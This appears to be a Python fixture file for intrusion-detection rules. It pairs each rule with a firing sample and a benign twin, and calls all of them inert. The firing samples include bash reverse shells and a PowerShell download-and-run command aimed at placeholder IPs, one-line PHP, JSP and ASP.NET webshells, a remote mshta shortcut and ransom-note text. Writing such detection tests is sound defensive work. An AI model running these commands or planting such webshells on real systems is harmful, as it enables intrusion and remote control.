# SPDX-License-Identifier: Apache-2.0
"""One firing and one silent case for each of our own rules; the silent twin differs in what makes it harmless.  Everything here
is inert: look-alikes without function.  record.py plays them with real programs, tests/rules/run replays what it recorded.

http  client: curl's arguments; path; server: (headers, body); inside: the server is ours
tls   subject of the certificate that openssl s_server shows
raw   (what the server says first, what the client says) on a bare TCP connection
dns   name that dig asks for
file  content that curl fetches, under its name"""
import base64
import io
import struct
import zipfile


def http(path="/", client=(), server=((), b"ok\n"), inside=False):
    return {"kind": "http", "path": path, "client": list(client), "server": server, "inside": inside}


def tls(subject):
    return {"kind": "tls", "subject": subject}


def raw(server=b"", client=b""):
    return {"kind": "raw", "server": server, "client": client}


def dns(name):
    return {"kind": "dns", "name": name}


def file(name, content):
    return {"kind": "file", "name": name, "content": content if isinstance(content, bytes) else content.encode()}


def upload(name, content):
    return http(f"/{name}", ["-X", "PUT", "--data-binary", content, "-H", "Content-Type: application/octet-stream"], inside=True)


def agent(name):
    return ["-A", name]


def post(data, *more):
    return ["--data-binary", data, *more]


IE11 = "Mozilla/5.0 (Windows NT 6.1; WOW64; Trident/7.0; rv:11.0) like Gecko"
POWERSHELL = "Mozilla/5.0 (Windows NT; Windows NT 10.0; ja-JP) WindowsPowerShell/5.1.19041.4522"
DOS = b"This program cannot be run in DOS mode.\r\r\n$"
SCRIPTLET = b'<?XML version="1.0"?>\n<scriptlet>\n<registration progid="Kakunin" classid="{F0001111-0000-0000-0000-0000FEEDACDC}">\n' \
            b'<script language="JScript"><![CDATA[ /* nothing */ ]]></script>\n</registration>\n</scriptlet>\n'


def pe(more=b""):
    """The frame of a program, without code: heads and text."""
    head = b"MZ" + bytes(58) + struct.pack("<I", 0x80)
    return head + b"\x0e\x1f\xba\x0e\0" + DOS.ljust(59, b"\0") + b"PE\0\0" + struct.pack("<HHIIIHH", 0x8664, 0, 0, 0, 0, 0, 0x2022) + \
        bytes(200) + more


def zipped(*names, flag=0x800):
    """An archive of small texts; names in UTF-8 or (flag 0) in the bytes given."""
    out = b""
    for name in names:
        name = name if isinstance(name, bytes) else name.encode()
        body = b"inert\n"
        out += b"PK\x03\x04" + struct.pack("<HHHHHIIIHH", 20, flag, 0, 0, 0x5000, 0, len(body), len(body), len(name), 0) + name + body
    return out + b"PK\x05\x06" + bytes(18)


def good_zip(*names):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        for name in names:
            z.writestr(zipfile.ZipInfo(name, (2026, 1, 5, 9, 0, 0)), "inert\n")
    return out.getvalue()


def ole(*texts):
    return bytes.fromhex("d0cf11e0a1b11ae1") + bytes(504) + b"".join(t if isinstance(t, bytes) else t.encode() for t in texts) + bytes(512)


def wide(text):
    return text.encode("utf-16-le")


def shortcut(command):
    return struct.pack("<I", 0x4c) + bytes.fromhex("0114020000000000c000000000000046") + struct.pack("<I", 0x20) + bytes(52) + \
        struct.pack("<H", len(command)) + wide(command)


def image(*parts):
    return (bytes(0x8000) + b"\x01CD001\x01" + bytes(2041)) + b"".join(p + bytes(2048 - len(p) % 2048) for p in parts)


ENCODED = base64.b64encode(wide("$x = 'this does nothing at all, and says so'; $x")).decode()
HELD = base64.b64encode(good_zip("a.txt", "b.txt", "c.txt")).decode()
FORM = "--boundary\r\nContent-Disposition: form-data; name=\"file\"; filename=\"%s\"\r\nContent-Type: text/plain\r\n\r\n%s\r\n--boundary--\r\n"
MULTIPART = ["-H", "Content-Type: multipart/form-data; boundary=boundary"]
WEBSOCKET = ["-H", "Connection: Upgrade", "-H", "Upgrade: websocket", "-H", "Sec-WebSocket-Version: 13", "-H",
             "Sec-WebSocket-Key: c2FtcGxlIG5vbmNlIQ=="]

CASES = {
    9400001: (http("/update.bin", agent("CertUtil URL Agent")), http("/crl/town.crl", agent("Microsoft-CryptoAPI/10.0"))),
    9400002: (http("/tool.exe", agent("Microsoft BITS/7.8")),
              http("/tool.exe", [*agent("Microsoft BITS/7.8"), "-H", "Host: download.update.example"])),
    9400003: (http("/a.ps1", agent(POWERSHELL)), http("/a.ps1", [*agent(POWERSHELL), "-H", "Host: repository.example"])),
    9400004: (http("/kakunin.xml", server=((), SCRIPTLET)),
              http("/feed.xml", server=((), b"<?xml version='1.0'?><rss><channel><title>notes on the scriptlet format</title></channel></rss>"))),
    9400005: (http("/setup.bin", server=(("Server: SimpleHTTP/0.6 Python/3.11.2",), pe())),
              http("/setup.bin", server=(("Server: nginx",), pe()))),
    9400010: (http("/submit.php?id=31337", post("0000", "-H", "Content-Type: application/octet-stream")),
              http("/submit.php?id=31337", post("name=taro", "-H", "Content-Type: application/x-www-form-urlencoded"))),
    9400011: (tls("/ST=Cyberspace/L=Somewhere/O=cobaltstrike/OU=AdvancedPenTesting/CN=Major Cobalt Strike"),
              tls("/C=JP/O=Cobalt Strike Bowling Club/CN=www.bowling.example")),
    9400012: (tls("/CN=AsyncRAT Server"), tls("/CN=server.asyncmail.example")),
    9400013: (tls("/CN=localhost/O=Mythic"), tls("/CN=www.mythic-tales.example/O=Mythical Tales")),
    9400014: (http("/", server=(("X-Havoc: true",), b"")), http("/", server=(("X-Have-Cache: true",), b""))),
    9400015: (http("/admin/get.php", [*agent(IE11), "-b", "session=q2Vzc2lvbiBub3RoaW5nIGhlcmUhMTIz"]),
              http("/news.php", [*agent(IE11), "-b", "session=taro"])),
    9400016: (http("/", [*WEBSOCKET, "-H", "Sec-WebSocket-Protocol: chisel-v3"]),
              http("/", [*WEBSOCKET, "-H", "Sec-WebSocket-Protocol: chat"])),
    9400017: (raw(struct.pack("<I", 4096) + pe(b"ReflectiveLoader\0" + bytes(64))), raw(struct.pack("<I", 4096) + pe(bytes(64)))),
    9400020: (raw(b"", b"Microsoft Windows [Version 10.0.19045.4529]\r\n(c) Microsoft Corporation. All rights reserved.\r\n\r\n"
                      b"C:\\Users\\soumu\\Desktop>"),
              raw(b"", b"agent report: Microsoft Windows [Version 10.0.19045.4529] build ok\r\n")),
    9400021: (raw(b"id\n", b"uid=33(www-data) gid=33(www-data) groups=33(www-data)\n"), raw(b"id\n", b"uid=taro,ou=people,dc=town,dc=example\n")),
    9400022: (http("/cgi-bin/form", post("cmd=bash -i >& /dev/tcp/198.51.100.7/4444 0>&1"), inside=True),
              http("/wiki/edit", post("text=a file below /dev/tcp/ is a feature of bash"), inside=True)),
    9400030: (http("/images/a.php", post("pass=@eval(base64_decode($_POST[z0]));&z0=ZWNobyAnaW5lcnQnOw=="), inside=True),
              http("/images/a.php", post("pass=secret&z0=ZWNobyAnaW5lcnQnOw=="), inside=True)),
    9400031: (http("/upload", post(FORM % ("logo.php", "<?php system($_GET['c']); ?>"), *MULTIPART), inside=True),
              http("/upload", post(FORM % ("page.php", "<?php echo date('Y'); ?>"), *MULTIPART), inside=True)),
    9400040: (http("/bucket/meibo.csv", ["-X", "PUT", *post("1,2,3", *agent("rclone/v1.66.0"))]),
              http("/bucket/", agent("rclone/v1.66.0"))),
    9400041: (dns("dnscat.5d4801a4c40000ffff000100010000"), dns("dnscat.example")),

    "kd_webshell_php": (upload("logo.php", "<?php @eval(base64_decode($_POST['x'])); ?>"),
                        upload("form.bin", "<?php $name = trim($_POST['name']); echo htmlspecialchars($name); ?>")),
    "kd_webshell_jsp": (upload("a.bin", '<%@ page import="java.io.*" %><% Runtime.getRuntime().exec(request.getParameter("c")); %>'),
                        upload("b.bin", '<%@ page language="java" %><% out.println(request.getParameter("name")); %>')),
    "kd_webshell_aspnet": (upload("a.bin", '<%@ Page Language="Jscript"%><%eval(Request.Item["x"],"unsafe");%>'),
                           upload("b.bin", '<%@ Page Language="C#"%><%= Server.HtmlEncode(Request.QueryString["name"]) %>')),
    "kd_powershell_encoded_command": (file("a.bat", f"@echo off\r\npowershell -nop -enc {ENCODED}\r\n"),
                                      file("b.bat", "@echo off\r\npowershell -File C:\\tools\\backup.ps1 -Encoding UTF8\r\n")),
    "kd_powershell_download_and_run": (
        file("a.ps1", "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/nothing')\"\n"),
        file("b.ps1", "Invoke-WebRequest -Uri https://repository.example/list.csv -OutFile list.csv\nGet-Content list.csv\n")),
    "kd_script_dropper": (
        file("a.vbs", 'Set x = CreateObject("MSXML2.XMLHTTP")\nSet s = CreateObject("ADODB.Stream")\n\' s.SaveToFile "inert"\n'
                      'Set w = CreateObject("WScript.Shell")\n\' w.Run "inert"\n'),
        file("b.vbs", 'Set w = CreateObject("WScript.Shell")\nw.Popup "The printer was renewed"\n')),
    "kd_hta_runs_programs": (
        file("a.hta", '<html><head><hta:application showintaskbar="no"/></head><script>/* WScript.Shell */</script></html>'),
        file("b.hta", '<html><head><hta:application border="thin"/></head><body>inventory</body></html>')),
    "kd_ransom_note": (
        file("README.cmd", "All your files have been encrypted. Do not rename them.\nPay in bitcoin, then you get the decryptor.\n"
                           "Install Tor Browser and open example.\n"),
        file("notice.cmd", "Notice: from April all files on the share are encrypted at rest. Keys are with the IT section; the Tor Browser is not allowed.\n")),
    "kd_office_macro_starts_programs": (
        file("a.doc", ole(wide("_VBA_PROJECT"), "Attribute VB_Name Auto_Open WScript.Shell inert")),
        file("b.doc", ole(wide("_VBA_PROJECT"), "Attribute VB_Name Workbook_Open Range(A1).Value = Date"))),
    "kd_rtf_equation_object": (
        file("a.rtf", r"{\rtf1{\object\objemb{\*\objdata 0105000002000000" + "0b000000" + b"Equation.3".hex() + "00}}}"),
        file("b.rtf", r"{\rtf1{\object\objemb{\*\objdata 0105000002000000" + "0b000000" + b"Package".hex() + "00}}}")),
    "kd_onenote_holds_script": (
        file("a.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") +
             bytes(20) + b"@echo off\r\nrem inert\r\n"),
        file("b.one", bytes.fromhex("e4525c7b8cd8a74daeb15378d02996d3") + bytes(64) + bytes.fromhex("e716e3bd65261145a4c48d4d0b7a9eac") +
             bytes(20) + b"\x89PNG\r\n\x1a\n minutes of the meeting")),
    "kd_shortcut_runs_script": (file("a.lnk", shortcut("C:\\Windows\\System32\\mshta.exe http://192.0.2.1/nothing")),
                                file("b.lnk", shortcut("C:\\Program Files\\Office\\WINWORD.EXE \\\\files\\soumu\\minutes.docx"))),
    "kd_url_file_opens_share": (file("a.url", "[InternetShortcut]\r\nURL=file://198.51.100.9@80/inert/minutes.lnk\r\n"),
                                file("b.url", "[InternetShortcut]\r\nURL=https://www.town.example/top.html\r\n")),
    "kd_pdf_launches_program": (
        file("a.pdf", "%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/Launch/Win<</F(cmd.exe)/P(rem inert)>>>>endobj\n%%EOF\n"),
        file("b.pdf", "%PDF-1.5\n1 0 obj<</Type/Catalog/OpenAction 2 0 R>>endobj\n2 0 obj<</S/GoTo/D[3 0 R/Fit]>>endobj\n%%EOF\n")),
    "kd_html_carries_program": (
        file("a.hta", f"<html><script>var d='{HELD}';var b=new Blob([atob(d)]);var u=URL.createObjectURL(b);</script></html>"),
        file("b.hta", "<html><script>var b=new Blob([text]);var u=URL.createObjectURL(b);new Uint8Array(4);</script></html>")),
    "kd_zip_disguised_program": (file("a.zip", zipped("minutes.pdf.exe")), file("b.zip", good_zip("minutes.pdf", "setup.exe"))),
    "kd_zip_japanese_lure": (file("a.zip", zipped("請求書_0401.exe")), file("b.zip", zipped("請求書_0401.xlsx"))),
    "kd_image_with_shortcut": (file("a.iso", image(shortcut("rundll32 inert.dll"), pe())),
                               file("b.iso", image(shortcut("C:\\docs\\manual.pdf"), pe()))),
    "kd_tool_credential_dumper": (file("a.bin", pe(wide("sekurlsa::inert lsadump::inert privilege::debug"))),
                                  file("b.bin", pe(wide("privilege settings, kerberos ticket cache")))),
    "kd_tool_reflective_loader": (file("a.dll", pe(b"ReflectiveLoader\0")), file("b.dll", pe(b"ResourceLoader\0"))),
    "kd_tool_remote_shell_script": (file("a.sh", "#!/bin/bash\nbash -i >& /dev/tcp/192.0.2.1/9 0>&1 # inert\n"),
                                    file("b.sh", "#!/bin/bash\nexec 3<>/dev/tcp/ntp.town.example/13\ncat <&3\n")),
}
